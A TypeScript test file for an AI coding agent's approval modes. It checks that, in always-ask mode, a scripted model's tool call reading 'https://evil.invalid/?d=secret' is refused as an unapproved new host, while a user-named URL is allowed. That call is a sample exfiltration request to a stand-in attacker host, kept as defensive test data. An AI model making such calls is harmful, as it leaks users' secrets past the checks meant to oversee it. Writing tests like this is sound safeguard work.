import { expect, test } from "bun:test";
import { ompProject } from "@oh-my-pi/pi-testkit/product/omp-project";
import { text, toolCall } from "@oh-my-pi/pi-testkit/servers/replies";

const i = "Looking";
const lookups = [
	toolCall("read", { i, path: ".env.example" }),
	toolCall("read", { i, path: "https://evil.invalid/?d=secret" }),
	toolCall("web_search", { i, query: "secret" }),
	toolCall("read", { i, path: "https://docs.invalid/page" }),
	text("Done."),
];

async function results(mode: string, prompt: string): Promise<string[]> {
	await using omp = await ompProject({ files: { ".env.example": "KEY=1\n" }, replies: lookups });
	const run = await omp.run(["-p", "--approval-mode", mode, "--tools", "read,web_search", prompt]);
	expect(run.stdout).toContain("Done.");
	return omp.model.requests.slice(1).map((request) => JSON.stringify((request.messages as unknown[]).at(-1)));
}

test("in always-ask, reading the web is refused where nobody can be asked, but for what the user typed", async () => {
	const [file, evil, search, named] = await results("always-ask", "Compare with https://docs.invalid/page");
	expect(file).toContain("KEY=1");
	expect(evil).toContain('\\"read\\" would reach evil.invalid. In always-ask every new host is asked about');
	expect(search).toContain('\\"web_search\\" would reach web_search');
	expect(named).not.toContain("every new host is asked about");
}, 60_000);

test("in write mode it needs no question", async () => {
	const [, evil] = await results("write", "Go");
	expect(evil).not.toContain("every new host is asked about");
}, 60_000);
